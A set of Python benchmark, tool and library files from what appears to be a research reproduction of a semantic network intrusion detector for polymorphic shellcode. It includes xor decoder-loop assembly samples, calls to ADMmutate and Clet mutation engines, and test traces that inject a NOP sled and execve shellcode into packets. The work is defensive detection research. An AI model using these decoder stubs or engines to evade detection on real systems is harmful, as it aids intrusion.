from repro.core import SemanticAnalyzer, xor_only_templates
from repro.x86 import assemble

FIG1 = {
    "1(a) plain": """
        decode:
          xor byte ptr [eax], 0x95
          inc eax
          loop decode
    """,
    "1(b) constant-obfuscated": """
        decode:
          mov ebx, 31h
          add ebx, 64h
          xor byte ptr [eax], bl
          add eax, 1
          loop decode
    """,
    "1(c) out-of-order": """
        decode:
          mov ecx, 0
          inc ecx
          inc ecx
          jmp one
        two:
          add eax, 1
          jmp three
        one:
          mov ebx, 31h
          add ebx, 64h
          xor byte ptr [eax], bl
          jmp two
        three:
          loop decode
    """,
}


@pytest.mark.parametrize("variant", list(FIG1))
def test_fig1_variant_matches(benchmark, report, variant):
    code = assemble(FIG1[variant])
    analyzer = SemanticAnalyzer(templates=xor_only_templates())

    result = benchmark(analyzer.analyze_frame, code)

    assert result.detected
    match = result.matches[0]
    assert match.bindings["KEY"] == ("const", 0x95)
    report.table(
        f"Figure 1/2 — variant {variant}",
        [f"detected=yes template={match.template.name} "
         f"KEY=0x95 PTR=eax code_size={len(code)}B"],
    )

"""Table 2: polymorphic shellcode detection.

Four rows, reproducing §5.2:

1. ``iis-asp-overflow`` — an xor-encoded public exploit; one instance,
   detected by the xor-decryption template (paper: detected, 2.14 s).
2. ADMmutate, xor template only — the paper's first pass found 68%
   (ADMmutate's other decoder family evaded the template).
3. ADMmutate, both templates — 100% after adding the Figure 7 template.
4. Clet — 100 instances, all matched by the xor template.
"""

import time

from repro.core import (
    SemanticAnalyzer,
    decoder_templates,
    xor_only_templates,
)
from repro.engines import (
    AdmMutateEngine,
    CletEngine,
    generic_overflow_request,
    get_shellcode,
    iis_asp_overflow_request,
)
from repro.extract import BinaryExtractor


def _detect_request(analyzer: SemanticAnalyzer, request: bytes) -> bool:
    """Full extraction + analysis of one exploit request."""
    extractor = BinaryExtractor()
    return any(
        analyzer.analyze_frame(frame.data).detected
        for frame in extractor.extract(request)
    )


def test_table2_row1_iis_asp(benchmark, report):
    analyzer = SemanticAnalyzer(templates=xor_only_templates())
    request = iis_asp_overflow_request(seed=1)

    detected = benchmark(_detect_request, analyzer, request)

    assert detected
    report.table(
        "Table 2 row 1 — iis-asp-overflow",
        ["detected=yes via xor_decrypt_loop (paper: detected, 2.14 s)"],
    )


def _campaign(engine, analyzer, payload, count, wrap=True):
    hits = 0
    extractor = BinaryExtractor()
    for i in range(count):
        instance = engine.mutate(payload, instance=i)
        if wrap:
            request = generic_overflow_request(instance.data, seed=i)
            frames = extractor.extract(request)
            hit = any(analyzer.analyze_frame(f.data).detected for f in frames)
        else:
            hit = analyzer.analyze_frame(instance.data).detected
        hits += hit
    return hits


def test_table2_row2_admmutate_xor_only(benchmark, report, scale):
    payload = get_shellcode("classic-execve").assemble()
    count = scale["admmutate_instances"]
    analyzer = SemanticAnalyzer(templates=xor_only_templates())

    hits = benchmark.pedantic(
        _campaign, args=(AdmMutateEngine(seed=1), analyzer, payload, count),
        rounds=1, iterations=1,
    )
    rate = hits / count
    report.table(
        "Table 2 row 2 — ADMmutate, xor template only",
        [f"{hits}/{count} detected ({rate:.0%}); paper: 68%"],
    )
    assert 0.5 < rate < 0.9  # partial detection: the second family evades


def test_table2_row3_admmutate_both_templates(benchmark, report, scale):
    payload = get_shellcode("classic-execve").assemble()
    count = scale["admmutate_instances"]
    analyzer = SemanticAnalyzer(templates=decoder_templates())

    hits = benchmark.pedantic(
        _campaign, args=(AdmMutateEngine(seed=1), analyzer, payload, count),
        rounds=1, iterations=1,
    )
    report.table(
        "Table 2 row 3 — ADMmutate, both decoder templates",
        [f"{hits}/{count} detected ({hits / count:.0%}); paper: 100%"],
    )
    assert hits == count


def test_table2_row4_clet(benchmark, report, scale):
    payload = get_shellcode("classic-execve").assemble()
    count = scale["clet_instances"]
    analyzer = SemanticAnalyzer(templates=xor_only_templates())

    hits = benchmark.pedantic(
        _campaign, args=(CletEngine(seed=2), analyzer, payload, count),
        rounds=1, iterations=1,
    )
    report.table(
        "Table 2 row 4 — Clet engine, xor template",
        [f"{hits}/{count} detected ({hits / count:.0%}); paper: 100%"],
    )
    assert hits == count

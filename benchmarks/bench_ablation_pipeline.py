"""Ablations of the design choices DESIGN.md calls out.

Not a paper table — these quantify the *reasons* behind the paper's
architecture:

1. classifier on vs off: how much analysis work the pre-filter saves on
   benign traffic (§4.1's justification);
2. extraction on vs off: cost of pushing whole payloads at the
   disassembler ("this binary identification and extraction process can
   be bypassed but it will result in a system with much degraded
   performance", §4.2);
3. matcher gap tolerance sweep: junk tolerance vs detection of heavily
   obfuscated ADMmutate instances.
"""

import time

from repro.core import MatchEngine, SemanticAnalyzer, decoder_templates
from repro.core.matcher import prepare_trace
from repro.engines import AdmMutateEngine, get_shellcode
from repro.nids import SemanticNids
from repro.traffic import BenignMixGenerator
from repro.x86.disasm import disassemble_frame

HONEYPOT = "10.10.0.250"


def test_ablation_classifier(benchmark, report):
    packets = BenignMixGenerator(seed=5).generate_packets(400)

    def run(enabled: bool):
        nids = SemanticNids(honeypots=[HONEYPOT],
                            classification_enabled=enabled)
        start = time.perf_counter()
        nids.process_trace(packets)
        return nids, time.perf_counter() - start

    gated, gated_time = benchmark.pedantic(
        run, args=(True,), rounds=1, iterations=1)
    open_nids, open_time = run(False)

    rows = [
        f"classifier ON : {gated_time:6.2f}s payloads_analyzed="
        f"{gated.stats.payloads_analyzed} frames={gated.stats.frames_analyzed}",
        f"classifier OFF: {open_time:6.2f}s payloads_analyzed="
        f"{open_nids.stats.payloads_analyzed} frames={open_nids.stats.frames_analyzed}",
        f"speedup from classification: {open_time / max(gated_time, 1e-9):.1f}x "
        f"on all-benign traffic",
    ]
    report.table("Ablation — traffic classifier", rows)
    assert gated.stats.payloads_analyzed == 0
    assert open_time > gated_time


def test_ablation_extraction(benchmark, report):
    """Extraction bypass (§4.2's warning): replace the binary-detection
    stage with "hand the whole payload to the disassembler" and run the
    same benign traffic through both pipelines, classification off."""
    from repro.extract.frames import BinaryExtractor, BinaryFrame

    class _BypassExtractor(BinaryExtractor):
        """'It is possible to pass all traffic directly to the later
        stages' — every payload becomes one frame."""

        def extract(self, payload: bytes):
            self.payloads_seen += 1
            self.bytes_in += len(payload)
            if len(payload) < self.min_frame:
                return []
            frame = BinaryFrame(data=payload[: self.max_frame],
                                origin="bypass", offset=0)
            self.frames_emitted += 1
            self.bytes_out += len(frame.data)
            return [frame]

    packets = BenignMixGenerator(seed=17).generate_packets(150)

    def run(bypass: bool):
        nids = SemanticNids(classification_enabled=False)
        if bypass:
            nids.extractor = _BypassExtractor()
        start = time.perf_counter()
        nids.process_trace(packets)
        return nids, time.perf_counter() - start

    with_nids, _ = benchmark.pedantic(run, args=(False,), rounds=1,
                                      iterations=1)
    # time both fairly outside the benchmark harness
    with_nids, with_time = run(False)
    bypass_nids, bypass_time = run(True)

    rows = [
        f"with extraction   : {with_time:6.2f}s "
        f"frames_analyzed={with_nids.stats.frames_analyzed} "
        f"analysis={with_nids.stats.analysis.elapsed:.2f}s",
        f"extraction bypassed: {bypass_time:6.2f}s "
        f"frames_analyzed={bypass_nids.stats.frames_analyzed} "
        f"analysis={bypass_nids.stats.analysis.elapsed:.2f}s",
        f"degradation when bypassed: {bypass_time / max(with_time, 1e-9):.1f}x "
        f"time, {bypass_nids.stats.frames_analyzed / max(with_nids.stats.frames_analyzed, 1):.1f}x "
        f"frames (paper: 'much degraded performance')",
    ]
    report.table("Ablation — binary detection & extraction", rows)

    assert bypass_nids.alerts == with_nids.alerts == []
    assert bypass_nids.stats.frames_analyzed > 2 * with_nids.stats.frames_analyzed
    assert bypass_nids.stats.analysis.elapsed > with_nids.stats.analysis.elapsed


def test_ablation_gap_tolerance(benchmark, report):
    """Sweep the matcher's junk-tolerance window against heavily
    junk-laden ADMmutate instances."""
    payload = get_shellcode("classic-execve").assemble()
    engine = AdmMutateEngine(seed=11, junk_probability=0.75)
    instances = [engine.mutate(payload, instance=i) for i in range(40)]
    traces = []
    for m in instances:
        instructions, _ = disassemble_frame(m.data)
        traces.append(prepare_trace(instructions))

    def match_one():
        return bool(MatchEngine().match_all(decoder_templates(), traces[0]))

    benchmark.pedantic(match_one, rounds=5, iterations=1)

    rows = [f"{'max_gap':>8s} {'detected':>9s} {'time':>9s}"]
    best_rate = 0.0
    for gap in (2, 4, 8, 16, 32):
        templates = decoder_templates()
        for t in templates:
            t.max_gap = gap
        matcher = MatchEngine()
        start = time.perf_counter()
        hits = sum(
            bool(matcher.match_all(templates, trace)) for trace in traces
        )
        elapsed = time.perf_counter() - start
        rate = hits / len(traces)
        best_rate = max(best_rate, rate)
        rows.append(f"{gap:8d} {hits:4d}/{len(traces):<4d} {elapsed:8.2f}s")
    rows.append("small windows miss junk-heavy decoders; the default (24) "
                "sits past the knee")
    report.table("Ablation — matcher junk tolerance (max_gap)", rows)
    assert best_rate == 1.0

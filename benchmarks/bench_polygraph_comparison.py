"""Semantic detection vs automatic signature learning (Polygraph, [14]).

The paper's related-work section positions semantic detection against
byte-level invariant approaches: "invariant byte positions may be
disjoint ... but will be present nonetheless" [14] — unless the payload
has no invariants at all, which is exactly what ADMmutate-class engines
produce.  This benchmark learns Polygraph signatures from instance pools
and measures:

1. raw polymorphic payloads → learning degenerates (no invariant bytes);
2. full requests → the tokens are the delivery vehicle's framing plus
   return-address fragments: perfect on the training vehicle, zero
   generalization to a different vehicle;
3. the semantic analyzer, which keys on behaviour, is vehicle-blind.
"""

from repro.baseline.polygraph import PolygraphLearner
from repro.core import SemanticAnalyzer, decoder_templates
from repro.engines import (
    AdmMutateEngine,
    EXPLOITS,
    build_exploit_request,
    generic_overflow_request,
    get_shellcode,
)
from repro.extract import BinaryExtractor
from repro.traffic import HttpTrafficModel


def test_polygraph_vs_semantic(benchmark, report):
    payload = get_shellcode("classic-execve").assemble()
    engine = AdmMutateEngine(seed=23)
    learner = PolygraphLearner()

    # Training pools.
    raw_pool = [engine.mutate(payload, instance=i).data for i in range(40)]
    request_pool = [generic_overflow_request(
                        engine.mutate(payload, instance=i).data, seed=i)
                    for i in range(40)]
    benign_model = HttpTrafficModel(seed=3)
    benign_corpus = [benign_model.request() for _ in range(200)]

    def learn():
        return learner.learn(request_pool, benign=benign_corpus)

    signature = benchmark(learn)
    raw_signature = learner.learn(raw_pool, benign=benign_corpus)

    # Fresh same-vehicle and cross-vehicle instances.
    same_vehicle = [generic_overflow_request(
                        engine.mutate(payload, instance=500 + i).data,
                        seed=900 + i)
                    for i in range(30)]
    cross_vehicle = [build_exploit_request(
                         EXPLOITS[0], seed=i,
                         payload=engine.mutate(payload, instance=700 + i).data)
                     for i in range(30)]

    semantic = SemanticAnalyzer(templates=decoder_templates())
    extractor = BinaryExtractor()

    def semantic_hits(requests):
        return sum(
            any(semantic.analyze_frame(f.data).detected
                for f in extractor.extract(r))
            for r in requests
        )

    sig_same = sum(signature.matches(r) for r in same_vehicle)
    sig_cross = sum(signature.matches(r) for r in cross_vehicle)
    sem_same = semantic_hits(same_vehicle)
    sem_cross = semantic_hits(cross_vehicle)
    benign_fresh = [benign_model.request() for _ in range(300)]
    sig_fp = sum(signature.matches(b) for b in benign_fresh)

    rows = [
        f"raw polymorphic pool:   {raw_signature.describe()}",
        f"full-request pool:      {signature.describe()}",
        "",
        f"{'workload':30s} {'polygraph':>10s} {'semantic':>10s}",
        f"{'same vehicle x30':30s} {sig_same:>7d}/30 {sem_same:>7d}/30",
        f"{'different vehicle x30':30s} {sig_cross:>7d}/30 {sem_cross:>7d}/30",
        f"{'benign requests x300 (FPs)':30s} {sig_fp:>7d}/300 {'0':>6s}/300",
        "",
        "polygraph learns the *vehicle*, not the code; the semantic NIDS "
        "keys on behaviour and is vehicle-blind",
    ]
    report.table("Comparison — Polygraph [14] vs semantic NIDS", rows)

    assert raw_signature.degenerate
    assert not signature.degenerate
    assert sig_same >= 28          # it does work where it was trained
    assert sig_cross == 0          # ...and nowhere else
    assert sem_same == 30 and sem_cross == 30
    assert sig_fp == 0             # the distinctness filter does its job

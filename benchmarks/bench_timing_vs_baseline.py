"""§5.1 timing: the network pipeline vs the host-based system of [5].

The paper's efficiency claim: analysing a ~22 KB Netsky sample takes
~6.5 s in their pipeline versus ~40 s reported by [5], and individual
exploits take 2.36-3.27 s.  Absolute numbers depend on 2002-era hardware;
the reproduction target is the *relationship* — the extraction-pruned
pipeline does far less work than exhaustive whole-binary scanning on the
same bytes, and per-exploit times are small and uniform.
"""

import time

from repro.baseline import HostBasedScanner
from repro.core import SemanticAnalyzer
from repro.engines import EXPLOITS, build_exploit_request, netsky_sample
from repro.extract import BinaryExtractor


def _pipeline_netsky(sample: bytes) -> float:
    analyzer = SemanticAnalyzer()
    start = time.perf_counter()
    result = analyzer.analyze_frame(sample)
    assert not result.detected
    return time.perf_counter() - start


def _baseline_netsky(sample: bytes) -> float:
    scanner = HostBasedScanner()
    result = scanner.scan_binary(sample)
    assert not result.detected
    return result.elapsed


def test_timing_netsky_pipeline_vs_baseline(benchmark, report, scale):
    rows = []
    ratios = []
    for seed in (0, 1):  # "two variants of the Netsky virus"
        sample = netsky_sample(size=scale["netsky_size"], seed=seed)
        pipeline = benchmark.pedantic(
            _pipeline_netsky, args=(sample,), rounds=1, iterations=1,
        ) if seed == 0 else _pipeline_netsky(sample)
        baseline = _baseline_netsky(sample)
        ratios.append(baseline / pipeline)
        rows.append(
            f"netsky-variant-{seed}: size={len(sample)}B "
            f"pipeline={pipeline * 1000:8.1f}ms "
            f"baseline[5]={baseline * 1000:8.1f}ms "
            f"ratio={baseline / pipeline:6.1f}x"
        )
    rows.append("paper: ~6.5 s (this system) vs ~40 s ([5]) — ratio ~6x; "
                "shape target: baseline is substantially slower")
    report.table("§5.1 timing — Netsky analysis, pipeline vs [5]", rows)
    assert all(r > 2.0 for r in ratios)


def test_timing_per_exploit(benchmark, report):
    """Per-exploit analysis cost (the 2.36-3.27 s row of §5.1)."""
    analyzer = SemanticAnalyzer()
    extractor = BinaryExtractor()

    def one_exploit(spec):
        request = build_exploit_request(spec, seed=1)
        frames = extractor.extract(request)
        return any(analyzer.analyze_frame(f.data).detected for f in frames)

    assert benchmark.pedantic(one_exploit, args=(EXPLOITS[0],),
                              rounds=3, iterations=1)
    rows = []
    times = []
    for spec in EXPLOITS:
        request = build_exploit_request(spec, seed=1)
        start = time.perf_counter()
        frames = extractor.extract(request)
        detected = any(analyzer.analyze_frame(f.data).detected for f in frames)
        elapsed = time.perf_counter() - start
        times.append(elapsed)
        assert detected
        rows.append(f"{spec.name:24s} {elapsed * 1000:7.2f} ms")
    spread = max(times) / min(times)
    rows.append(f"range {min(times)*1000:.2f}-{max(times)*1000:.2f} ms, "
                f"spread {spread:.1f}x (paper: 2.36-3.27 s, spread 1.4x)")
    report.table("§5.1 timing — per-exploit analysis", rows)

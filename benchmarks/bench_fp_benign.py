"""§5.4: false-positive evaluation on benign traffic.

Classification is disabled — "we examined every packet's payload" — and
the NIDS runs over a large benign capture (the paper used a month /
566 MB from two class-C networks; ``REPRO_SCALE=paper`` raises the volume
here).  The reproduction target: zero false positives while the analyzer
demonstrably does real work (payloads analyzed, frames extracted and
disassembled).
"""

from repro.nids import SemanticNids
from repro.traffic import month_of_traffic


def _run_fp(payload_bytes: int):
    packets, nbytes = month_of_traffic(seed=42, payload_bytes=payload_bytes)
    nids = SemanticNids(classification_enabled=False)
    nids.process_trace(packets)
    return nids, len(packets), nbytes


def test_fp_benign_traffic(benchmark, report, scale):
    nids, n_packets, nbytes = benchmark.pedantic(
        _run_fp, args=(scale["fp_payload_bytes"],), rounds=1, iterations=1,
    )
    stats = nids.stats
    rows = [
        f"packets={n_packets} generated_payload={nbytes / 1e6:.1f}MB "
        f"inspected_payload={stats.payload_bytes / 1e6:.1f}MB",
        f"payloads_analyzed={stats.payloads_analyzed} "
        f"frames_extracted={stats.frames_extracted} "
        f"frames_analyzed={stats.frames_analyzed}",
        f"false_positives={stats.alerts} (paper: 0 over 566MB)",
        f"stage times: extraction={stats.extraction.elapsed:.2f}s "
        f"analysis={stats.analysis.elapsed:.2f}s",
    ]
    report.table("§5.4 — False positive evaluation (classification off)", rows)

    assert stats.alerts == 0
    assert stats.payloads_analyzed > 0
    assert stats.frames_analyzed > 0

#!/usr/bin/env python
"""Kill-matrix runner: prove replay parity across every crash seam.

Runs the differential crash/restart harness
(``repro.resilience.recovery``) over the full matrix of

    engine   x  kill seam        x  seed
    daemon      mid-batch           CHAOS_SEEDS (default 0,1,2)
    fleet       mid-checkpoint
                mid-journal-write

and writes one JSON report per cell (plus a summary) so CI can archive
the evidence.  A cell fails when the recovered post-dedupe alert stream
is not byte-identical to the uninterrupted run, when a schedule never
actually crashed, or when the accounting identity leaks
(``uncounted_drops != 0``).

Zero third-party dependencies; run as::

    PYTHONPATH=src python tools/crash_matrix.py --out crash-report.json

Exit code 0 when every cell holds, 1 otherwise.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))

from repro.engines.shellcode import get_shellcode  # noqa: E402
from repro.net.packet import udp_packet  # noqa: E402
from repro.nids import SemanticNids  # noqa: E402
from repro.resilience.recovery import (  # noqa: E402
    KILL_KINDS,
    run_daemon_reference,
    run_daemon_with_crashes,
    run_fleet_reference,
    run_fleet_with_crashes,
)
from repro.traffic.mix import BenignMixGenerator  # noqa: E402

ENGINES = ("daemon", "fleet")


def crash_trace(n, seed, attacks=6):
    packets = BenignMixGenerator(seed=seed).generate_packets(n)[:n]
    sled = bytes([0x90]) * 48
    shellcode = get_shellcode("classic-execve").assemble()
    step = max(1, n // (attacks + 1))
    for i in range(attacks):
        at = step * (i + 1)
        packets[at] = udp_packet(
            f"6.6.{i}.6", "10.10.0.3", 1000 + i, 69, sled + shellcode,
            timestamp=float(packets[at].timestamp))
    return packets


def kill_schedule(seed, n, kills):
    rng = random.Random(seed)
    return sorted(rng.sample(range(20, n - 20), kills))


def run_cell(engine, kill_kind, seed, packets, kills):
    with tempfile.TemporaryDirectory(prefix="crash-matrix-") as ckpt:
        if engine == "daemon":
            factory = lambda: SemanticNids(classification_enabled=False)
            reference, _ = run_daemon_reference(packets,
                                                nids_factory=factory)
            report = run_daemon_with_crashes(
                packets, nids_factory=factory, checkpoint_dir=ckpt,
                kills=kills, kill_kind=kill_kind, checkpoint_interval=40,
                journal_fsync_batch=4)
        else:
            options = dict(workers=2,
                           nids_options={"classification_enabled": False})
            reference, _ = run_fleet_reference(packets,
                                               fleet_options=options)
            report = run_fleet_with_crashes(
                packets, checkpoint_dir=ckpt, kills=kills,
                kill_kind=kill_kind, checkpoint_interval=60,
                fleet_options=options)
    report.reference_lines = reference
    cell = report.as_dict()
    cell["seed"] = seed
    cell["ok"] = (report.parity and report.crashes >= 1
                  and not report.uncounted_drops)
    return cell


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="Crash-recovery kill matrix (see docs/operations.md)")
    parser.add_argument("--seeds", default=os.environ.get(
        "CHAOS_SEEDS", "0,1,2"),
        help="comma-separated seeds (default $CHAOS_SEEDS or 0,1,2)")
    parser.add_argument("--engines", default=",".join(ENGINES),
                        help="comma-separated subset of: daemon,fleet")
    parser.add_argument("--packets", type=int, default=220,
                        help="trace length per cell (default 220)")
    parser.add_argument("--kills", type=int, default=2,
                        help="kills per schedule (default 2)")
    parser.add_argument("--out", type=Path, default=None,
                        help="write the JSON report here (default stdout)")
    args = parser.parse_args(argv)

    seeds = [int(s) for s in args.seeds.split(",") if s.strip()]
    engines = [e.strip() for e in args.engines.split(",") if e.strip()]
    for engine in engines:
        if engine not in ENGINES:
            parser.error(f"unknown engine {engine!r}")

    cells = []
    for seed in seeds:
        packets = crash_trace(args.packets, seed)
        kills = kill_schedule(seed, len(packets), args.kills)
        for engine in engines:
            for kill_kind in KILL_KINDS:
                cell = run_cell(engine, kill_kind, seed, packets, kills)
                cells.append(cell)
                status = "ok" if cell["ok"] else "FAIL"
                print(f"{status:4s} {engine:6s} {kill_kind:17s} "
                      f"seed={seed} crashes={cell['crashes']} "
                      f"alerts={cell['alerts']} "
                      f"replayed={cell['replayed']} "
                      f"deduped={cell['deduped']}",
                      file=sys.stderr)

    failed = [c for c in cells if not c["ok"]]
    summary = {
        "cells": cells,
        "total": len(cells),
        "failed": len(failed),
        "parity": not failed,
    }
    rendered = json.dumps(summary, indent=2)
    if args.out is not None:
        args.out.write_text(rendered + "\n")
    else:
        print(rendered)
    print(f"crash matrix: {len(cells) - len(failed)}/{len(cells)} cells ok",
          file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())

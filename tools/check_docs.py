#!/usr/bin/env python
"""Grep-based documentation checker: stale references fail CI.

Checks, over README.md, EXPERIMENTS.md, DESIGN.md, and docs/:

1. relative markdown links resolve, including ``#anchor`` fragments
   (GitHub heading slugification);
2. referenced repository file paths exist (``benchmarks/foo.py``,
   ``docs/bar.md`` — tokens with a directory part and a .py/.md suffix,
   checked against the repo root and ``src/``);
3. dotted ``repro.*`` references import: the longest module prefix is
   imported and any remaining components are resolved with getattr, so
   a renamed function or class rots loudly;
4. every ``--flag`` token names a real option of a CLI tool in
   ``src/repro/cli.py`` (plus a small allowlist for third-party tools
   like pytest's ``--benchmark-only``);
5. the scenario-DSL reference table in ``docs/scenarios.md`` agrees
   with the live schema (``repro.scenario.schema_keys()``) in both
   directions: a documented key the schema dropped fails, and so does
   a schema key the table never mentions.

Zero third-party dependencies; run as
``PYTHONPATH=src python tools/check_docs.py``.  Exit code 0 when the
docs are honest, 1 with one line per stale reference otherwise.
"""

from __future__ import annotations

import importlib
import re
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent

DOC_FILES = [
    REPO / "README.md",
    REPO / "EXPERIMENTS.md",
    REPO / "DESIGN.md",
    *sorted((REPO / "docs").glob("*.md")),
]

#: flags that belong to tools other than ours (pytest-benchmark, pip).
FLAG_ALLOWLIST = {"--benchmark-only", "--upgrade"}

LINK_RE = re.compile(r"\[[^\]]+\]\(([^)\s]+)\)")
HEADING_RE = re.compile(r"^#{1,6}\s+(.+?)\s*$", re.MULTILINE)
PATH_RE = re.compile(r"`([A-Za-z0-9_.\-]+(?:/[A-Za-z0-9_.\-]+)+\.(?:py|md))`")
DOTTED_RE = re.compile(r"\brepro((?:\.[A-Za-z_][A-Za-z_0-9]*)+)\b")
FLAG_RE = re.compile(r"(?<![\w-])(--[a-z][a-z0-9-]+)\b")


def github_slug(heading: str) -> str:
    """GitHub's anchor slugification, close enough for our headings."""
    heading = re.sub(r"`([^`]*)`", r"\1", heading)  # strip code spans
    heading = heading.lower()
    heading = re.sub(r"[^\w\- ]", "", heading)
    return heading.replace(" ", "-")


def anchors_of(path: Path) -> set[str]:
    return {github_slug(h) for h in HEADING_RE.findall(path.read_text())}


def cli_flags() -> set[str]:
    """Every ``--flag`` literal in the CLI source."""
    source = (REPO / "src" / "repro" / "cli.py").read_text()
    return set(re.findall(r'"(--[a-z][a-z0-9-]+)"', source))


def check_links(path: Path, text: str, errors: list[str]) -> None:
    for target in LINK_RE.findall(text):
        if target.startswith(("http://", "https://", "mailto:")):
            continue
        base, _, fragment = target.partition("#")
        dest = (path.parent / base).resolve() if base else path
        if not dest.exists():
            errors.append(f"{path.name}: broken link target {target!r}")
            continue
        if fragment and dest.suffix == ".md":
            if fragment not in anchors_of(dest):
                errors.append(
                    f"{path.name}: broken anchor {target!r} "
                    f"(no heading slugs to {fragment!r})")


def check_file_paths(path: Path, text: str, errors: list[str]) -> None:
    for ref in PATH_RE.findall(text):
        if (REPO / ref).exists() or (REPO / "src" / ref).exists():
            continue
        errors.append(f"{path.name}: referenced file {ref!r} does not exist")


def check_dotted_refs(path: Path, text: str, errors: list[str]) -> None:
    for tail in set(DOTTED_RE.findall(text)):
        parts = ("repro" + tail).split(".")
        obj, consumed = None, 0
        for i in range(len(parts), 0, -1):
            try:
                obj = importlib.import_module(".".join(parts[:i]))
                consumed = i
                break
            except ImportError:
                continue
        if obj is None:
            errors.append(f"{path.name}: module repro{tail} does not import")
            continue
        for attr in parts[consumed:]:
            if not hasattr(obj, attr):
                errors.append(
                    f"{path.name}: repro{tail} is stale "
                    f"({'.'.join(parts[:consumed])} has no {attr!r})")
                break
            obj = getattr(obj, attr)


#: table rows of docs/scenarios.md whose first cell is a backticked
#: schema key path, e.g. ``| `campaigns[].engine` | str | ... |``.
SCHEMA_ROW_RE = re.compile(r"^\|\s*`([a-z_0-9.\[\]]+)`\s*\|", re.MULTILINE)


def check_scenario_schema(errors: list[str]) -> None:
    """Diff docs/scenarios.md's reference table against the live schema."""
    doc = REPO / "docs" / "scenarios.md"
    if not doc.exists():  # already reported as a missing DOC_FILE
        return
    from repro.scenario import schema_keys

    documented = set(SCHEMA_ROW_RE.findall(doc.read_text()))
    live = set(schema_keys())
    for key in sorted(documented - live):
        errors.append(
            f"{doc.name}: documents schema key {key!r} which no longer "
            f"exists in repro.scenario.schema")
    for key in sorted(live - documented):
        errors.append(
            f"{doc.name}: schema key {key!r} exists in "
            f"repro.scenario.schema but is missing from the reference "
            f"table")


def check_flags(path: Path, text: str, errors: list[str],
                known: set[str]) -> None:
    for flag in set(FLAG_RE.findall(text)):
        if flag not in known and flag not in FLAG_ALLOWLIST:
            errors.append(
                f"{path.name}: flag {flag} is not an option of any tool "
                f"in src/repro/cli.py")


def main() -> int:
    errors: list[str] = []
    known_flags = cli_flags()
    for path in DOC_FILES:
        if not path.exists():
            errors.append(f"missing documentation file: {path.name}")
            continue
        text = path.read_text()
        check_links(path, text, errors)
        check_file_paths(path, text, errors)
        check_dotted_refs(path, text, errors)
        check_flags(path, text, errors, known_flags)
    check_scenario_schema(errors)
    for error in errors:
        print(error, file=sys.stderr)
    if not errors:
        print(f"docs OK: {len(DOC_FILES)} files checked")
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())

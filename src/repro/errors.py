"""Typed exception hierarchy for the whole pipeline.

Fault containment (see docs/robustness.md) needs to tell *what kind* of
failure escaped a stage: a malformed packet is routine hostile input, a
stalled analysis is an attack on the detector itself (Bania-style
emulation evasion), and a dead worker is an operational fault.  Every
stage raises (or wraps foreign exceptions into) one of these types, so
the stage firewall in :mod:`repro.nids.pipeline` can count, quarantine,
and degrade with precision instead of guessing from bare ``ValueError``.

The hierarchy is deliberately shallow::

    ReproError
    ├── DecodeError          (also ValueError)  — malformed wire bytes
    ├── FlowKeyError         (also ValueError)  — packet has no transport flow
    ├── ReassemblyError                         — defragmenter / stream faults
    ├── ExtractionError                         — stage (b) faults
    ├── AnalysisError                           — stages (c)-(e) faults
    │   └── DeadlineExceeded                    — per-payload budget exhausted
    ├── CaptureError         (also ValueError)  — pcap-level faults
    │   └── TruncatedCaptureError               — capture ends mid-record
    └── WorkerError                             — worker-process faults

Several leaves double as ``ValueError`` so pre-existing ``except
ValueError`` call sites (and tests) keep working; new code should catch
the typed class.  This module imports nothing from the rest of the
package — it must stay a leaf so every layer can use it.
"""

from __future__ import annotations

__all__ = [
    "AnalysisError",
    "CaptureError",
    "DeadlineExceeded",
    "DecodeError",
    "ExtractionError",
    "FlowKeyError",
    "ReassemblyError",
    "ReproError",
    "TruncatedCaptureError",
    "WorkerError",
]


class ReproError(Exception):
    """Base class for every typed failure raised by this package."""


class DecodeError(ReproError, ValueError):
    """Bytes cannot be parsed as the requested protocol layer.

    Also a ``ValueError`` for backward compatibility with callers that
    predate the typed hierarchy.
    """


class FlowKeyError(ReproError, ValueError):
    """The packet has no transport flow (no IP header or no ports), so a
    :class:`~repro.net.flow.FlowKey` cannot be formed."""


class ReassemblyError(ReproError):
    """IP defragmentation or TCP stream reassembly failed."""


class ExtractionError(ReproError):
    """Binary detection/extraction (stage b) failed on a payload."""


class AnalysisError(ReproError):
    """Semantic analysis (disassemble → lift → match) failed on a frame."""


class DeadlineExceeded(AnalysisError):
    """The per-payload analysis budget ran out.

    Raised cooperatively from the disassemble/lift/match loop when a
    payload exhausts its :class:`repro.resilience.deadline.Deadline` —
    the containment answer to payloads crafted to stall the detector.
    ``units_spent`` records how much budget was consumed before tripping.
    """

    def __init__(self, message: str = "analysis deadline exceeded",
                 units_spent: int = 0) -> None:
        super().__init__(message)
        self.units_spent = units_spent


class CaptureError(ReproError, ValueError):
    """A capture file cannot be read or written."""


class TruncatedCaptureError(CaptureError):
    """A pcap file ends mid-record (partial header or body).

    ``complete_records`` counts the records that were fully read before
    the truncation point, so salvage tooling can report what survived.
    """

    def __init__(self, message: str, complete_records: int = 0) -> None:
        super().__init__(message)
        self.complete_records = complete_records


class WorkerError(ReproError):
    """A worker process failed (crash, broken pool, lost result)."""

"""Back-compat shim: the automaton moved to :mod:`repro.fastpath.multimatch`.

The Aho-Corasick implementation started life here as the substrate for
the Snort-style signature baseline.  The fast-path admission layer now
uses the same automaton as its prefilter scan engine, so the code lives
in ``repro.fastpath.multimatch``; this module keeps the original import
path working.
"""

from __future__ import annotations

from ..fastpath.multimatch import AhoCorasick, PatternMatch

__all__ = ["AhoCorasick", "PatternMatch"]

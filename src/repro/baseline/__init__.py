"""Comparator systems: the host-based semantic scanner of [5] and a
Snort-style static-signature IDS (the approach the paper argues against)."""

from .host_scan import BaselineResult, HostBasedScanner
from .aho_corasick import AhoCorasick, PatternMatch
from .signature import Signature, SignatureScanner, default_signature_db
from .polygraph import PolygraphLearner, PolygraphSignature

__all__ = [
    "BaselineResult", "HostBasedScanner",
    "AhoCorasick", "PatternMatch",
    "Signature", "SignatureScanner", "default_signature_db",
    "PolygraphLearner", "PolygraphSignature",
]

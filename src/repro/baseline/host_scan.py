"""Reimplementation of the host-based semantic scanner of [5].

Christodorescu et al.'s system analyzes *installed binaries on an
